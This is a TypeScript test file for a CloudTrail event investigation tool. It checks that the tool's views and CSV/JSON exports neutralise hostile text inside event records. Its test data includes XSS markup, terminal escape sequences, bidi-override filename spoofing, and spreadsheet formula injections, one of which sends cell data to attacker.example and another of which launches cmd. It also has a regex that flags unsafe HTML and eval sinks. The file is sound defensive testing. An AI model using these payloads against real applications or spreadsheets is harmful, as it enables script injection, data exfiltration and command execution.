import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, test } from "vitest";
import { drawEvent } from "../../src/investigation/event/eventView.ts";
import { CSV_COLUMNS } from "../../src/investigation/results/csvRow.ts";
import { rowSentence } from "../../src/investigation/results/resultRow.ts";
import type { EventHit } from "../../src/investigation/search/search.ts";
import { findEntities } from "../../src/model/entity/findEntities.ts";
import { type CloudTrailEvent, type LookupEnvelope, readRecord } from "../../src/model/event/record.ts";
import { fullRow } from "../unit/investigation/results/fullRow.ts";
import { historyOrigin } from "../unit/sources/origins.ts";
import { copied } from "./copied.ts";

const around = (event: CloudTrailEvent) => ({
  entities: findEntities(event),
  origins: [historyOrigin("production", "eu-west-1")],
  consolePage: () => undefined,
  declaredIn: () => undefined,
  timeZone: "Europe/Berlin",
});

function found(event: CloudTrailEvent): EventHit {
  return { event, origins: [] };
}

/** Controls, format characters (bidirectional ones among them), line and paragraph separators, lone surrogates. */
const misleading = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;

const hostile: readonly (readonly [string, string])[] = [
  ["markup", "<img src=x onerror=alert(1)><script>alert(2)</script>"],
  ["a command link", "[click](command:workbench.action.terminal.new) ![x](https://attacker.example/x.png)"],
  ["backticks and line breaks", "``` \r\n# heading\r> quote\n```"],
  ["ANSI and OSC-8", "\u001b[31mred\u001b[0m \u001b]8;;https://attacker.example\u0007link\u001b]8;;\u0007"],
  ["bidirectional overrides", "invoice\u202efdp.exe \u2066isolated\u2069 \u200emark"],
  ["invisible characters", "ad\u200bmin\u00ad\u2060\ufeff\u{e0041}\u{e007f}"],
  ["line separators", "one\u2028two\u2029three\u0085four"],
  ["lone surrogates", "\ud800 \udc00 x"],
  ["a formula", '=HYPERLINK("https://attacker.example?"&A1,"click")'],
  ["another formula", "@SUM(1+1)*cmd|' /C calc'!A0"],
];

/** A record that says it everywhere where a person may read it. */
function recordSaying(text: string): string {
  return JSON.stringify({
    eventVersion: "1.11",
    eventID: `id ${text}`,
    eventTime: "2026-11-01T11:00:00Z",
    eventName: text,
    eventSource: `${text}.amazonaws.com`,
    awsRegion: text,
    sourceIPAddress: text,
    userAgent: text,
    errorCode: text,
    errorMessage: text,
    requestID: text,
    eventType: text,
    sharedEventID: text,
    vpcEndpointId: text,
    recipientAccountId: text,
    userIdentity: {
      type: "AssumedRole",
      principalId: `AROAIOSFODNN7EXAMPLE:${text}`,
      arn: `arn:aws:sts::111122223333:assumed-role/${text}/${text}`,
      accountId: text,
      accessKeyId: text,
      invokedBy: text,
      onBehalfOf: { userId: text, identityStoreArn: text },
      sessionContext: {
        sessionIssuer: { type: "Role", userName: text, arn: `arn:aws:iam::111122223333:role/${text}` },
        sourceIdentity: text,
        webIdFederationData: { federatedProvider: text },
      },
    },
    requestParameters: {
      bucketName: text,
      roleName: text,
      functionName: text,
      instanceId: `i-0abc ${text}`,
      tags: [text],
    },
    responseElements: { ConsoleLogin: "Failure", arn: `arn:aws:s3:::${text}` },
    resources: [{ ARN: `arn:aws:s3:::${text}`, type: text, accountId: text }],
  });
}

function envelopeSaying(text: string): LookupEnvelope {
  return { eventId: `id ${text}`, username: text, accessKeyId: text, resources: [{ name: text, type: text }] };
}

/** The cells of CSV (RFC 4180), by row. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, after] of csv
    .replace(/^\ufeff/, "")
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    if (after === "\r\n") {
      rows.push([]);
    }
  }
  return rows.filter((row) => row.length > 1);
}

describe("what an event says (9, 10, 11, 12)", () => {
  test.each(hostile)("%s: every text is one line of plain characters", (_, text) => {
    const event = readRecord(recordSaying(text), { envelope: envelopeSaying(text) });
    const sentence = rowSentence({ event, origins: [] });
    const row = fullRow(event, (time) => new Date(time).toISOString());
    const { json, links, ...drawn } = drawEvent(event, around(event));
    const texts = [
      ...Object.values(row.cells),
      sentence,
      drawn.title,
      drawn.source,
      drawn.sentence,
      drawn.outcome?.label ?? "",
      drawn.outcome?.message ?? "",
      ...drawn.facts.flatMap(({ label, value, note }) => [label, value, note ?? ""]),
      ...drawn.groups.flatMap(({ title, entities }) => [
        title,
        ...entities.flatMap(({ label, value, detail }) => [label, value, detail ?? ""]),
      ]),
    ];
    expect(texts.filter((each) => misleading.test(each))).toEqual([]);
    // Nothing is dropped either: what is visible of it stands in the places that matter.
    const [start = ""] = text.split(misleading).filter((part) => part.trim() !== "");
    for (const said of [row.cells.user, row.cells.eventName, row.cells.error, sentence, drawn.sentence]) {
      expect(said).toContain(start);
    }
    expect(drawn.facts.length).toBeGreaterThan(10);
    // The record itself stays to the letter: the views escape what they show of it.
    expect(JSON.parse(json)).toEqual(JSON.parse(event.raw));
    expect(links.length).toBeGreaterThan(3);
  });

  test("nothing in the package trusts Markdown, HTML or code out of a text", () => {
    const root = fileURLToPath(new URL("../../src/", import.meta.url));
    const files = readdirSync(root, { recursive: true, encoding: "utf8" }).filter((name) => /\.(?:ts|mjs)$/.test(name));
    expect(files.length).toBeGreaterThan(80);
    const dangerous =
      /isTrusted\s*[:=](?!=)|supportHtml|enableCommandUris: true|innerHTML|outerHTML|insertAdjacentHTML|unsafeHTML|\beval\(|new Function\(/;
    expect(files.filter((name) => dangerous.test(readFileSync(join(root, name), "utf8")))).toEqual([]);
  });
});

describe("exported (20)", () => {
  const starts = [
    "=1+1",
    "+1",
    "-1",
    "@x",
    "\t=1",
    "\r=1",
    "  =1",
    "\n=1",
    "＝1",
    "＠x",
    "'=1",
    '"=1',
    "\u200b=1",
    "%=1",
  ];

  test.each(starts)("%j in every column begins no formula", async (text) => {
    const events = [readRecord(recordSaying(text)), readRecord(recordSaying(`${text}","=2`))].map(found);
    const rows = parseCsv(await copied(events, "csv"));
    expect(rows.map((row) => row.length)).toEqual([0, 1, 2].map(() => CSV_COLUMNS.length));
    const cells = rows.flat();
    expect(cells.filter((cell) => /^\s*[=+\-@＝＋－＠\t\r\n]/u.test(cell))).toEqual([]);
    expect(cells.filter((cell) => misleading.test(cell))).toEqual([]);
  });

  test("as JSON: one file that reads back, whatever one record is", async () => {
    const raws = [
      recordSaying("plain"),
      '\ufeff{"eventID":"with a byte order mark","eventName":"x"}',
      '{"eventID":"cut o',
      "",
      "not JSON at all",
      '{"eventID":"digits","eventName":"x","requestParameters":{"n":12345678901234567890,"x":1e400}}',
      '{"eventID":"twice","eventName":"x","a":1,"a":2}',
    ];
    const text = await copied(
      raws.map((raw) => found(readRecord(raw))),
      "json",
    );
    const file = JSON.parse(text) as { readonly Records: readonly { readonly eventID?: string }[] };
    expect(file.Records).toHaveLength(raws.length);
    expect(file.Records[1]?.eventID).toBe("with a byte order mark");
    expect(text).toContain("12345678901234567890");
    expect(text).toContain("1e400");
    expect(text).toContain('"a":1,"a":2');
  });

  test("as ids: a line each", async () => {
    const events = ["one\ntwo", "three"].map((eventID) => found(readRecord({ eventID, eventName: "x" })));
    expect((await copied(events, "ids")).split("\n")).toHaveLength(2);
  });
});
